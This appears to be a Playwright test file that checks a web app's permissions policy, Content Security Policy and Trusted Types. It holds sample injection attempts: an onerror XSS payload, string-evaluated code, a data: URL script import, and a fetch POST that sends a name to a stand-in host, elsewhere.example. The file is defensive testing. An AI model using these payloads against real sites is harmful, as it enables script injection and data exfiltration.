import { watchPolicy } from './support/policy';
import { expect, test } from './support/stage';
import { titleOf } from './support/title';

/** Doors that open before a device has been given a role. */
const DOORS = ['/', '/kiosk', '/desk', '/device', '/nope'];

test('nothing on any first screen asks for what the page’s own policy forbids', async ({
	server,
	deskBrowser
}) => {
	const page = deskBrowser.page();
	const reports = await watchPolicy(page);
	const misread: string[] = [];
	page.on('console', (message) => {
		if (/permissions-policy/i.test(message.text())) misread.push(message.text());
	});
	for (const door of DOORS) {
		await page.goto(server.running().url + door);
		await expect(titleOf(page)).toBeVisible();
	}
	await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
	// The same again, now out of the service worker's hands, and from one screen to the next.
	for (const door of DOORS) {
		await page.goto(server.running().url + door);
		await expect(titleOf(page)).toBeVisible();
	}
	await page.getByRole('main').getByRole('link').first().click();
	await expect(page.locator('#svelte-announcer')).not.toBeEmpty();
	expect(reports).toEqual([]);
	// A feature the browser does not know would be one that is not switched off.
	expect(misread).toEqual([]);
	expect(deskBrowser.errors).toEqual([]);
});

/** Ways to have a page run or show what somebody else wrote, and the directive that stands in each one's way. */
const ATTEMPTS: readonly (readonly [string, string, () => void])[] = [
	[
		'text written into the page as markup',
		'require-trusted-types-for',
		() => void (document.createElement('p').innerHTML = '<img src=x onerror=alert(1)>')
	],
	[
		'a script of one’s own making',
		'require-trusted-types-for',
		() => void (document.createElement('script').text = 'alert(1)')
	],
	['text run as code', 'require-trusted-types-for', () => void setTimeout('alert(1)')],
	[
		'a trusted type of another name',
		'trusted-types',
		() => void (window as any).trustedTypes.createPolicy('mine', {})
	],
	[
		'a script from elsewhere',
		'script-src-elem',
		() => void import('data:text/javascript,alert(1)' as string).catch(() => {})
	],
	[
		'a style attribute',
		'style-src-attr',
		() => document.body.setAttribute('style', 'display: none')
	],
	[
		'a frame',
		'frame-src',
		() => void document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }))
	],
	[
		'a picture from elsewhere',
		'img-src',
		() => void (new Image().src = 'http://elsewhere.example/who-is-here.png')
	],
	[
		'words sent elsewhere',
		'connect-src',
		() => void fetch('http://elsewhere.example/', { method: 'POST', body: 'Marie' }).catch(() => {})
	]
];

test('what somebody else would have a page do is stopped by its policy, and told of', async ({
	server,
	deskBrowser
}) => {
	const page = deskBrowser.page();
	const reports = await watchPolicy(page);
	const alerts: string[] = [];
	page.on('dialog', (dialog) => {
		alerts.push(dialog.message());
		void dialog.dismiss();
	});
	await page.goto(`${server.running().url}/device`);
	await expect(titleOf(page)).toBeVisible();
	const stopped: string[] = [];
	for (const [what, directive, attempt] of ATTEMPTS) {
		// A sink that throws has done what it should.
		await page.evaluate(attempt).catch(() => {});
		stopped.push(directive);
		await expect.poll(() => reports.map((report) => report.split(':')[0]), what).toEqual(stopped);
	}
	expect(alerts).toEqual([]);
});
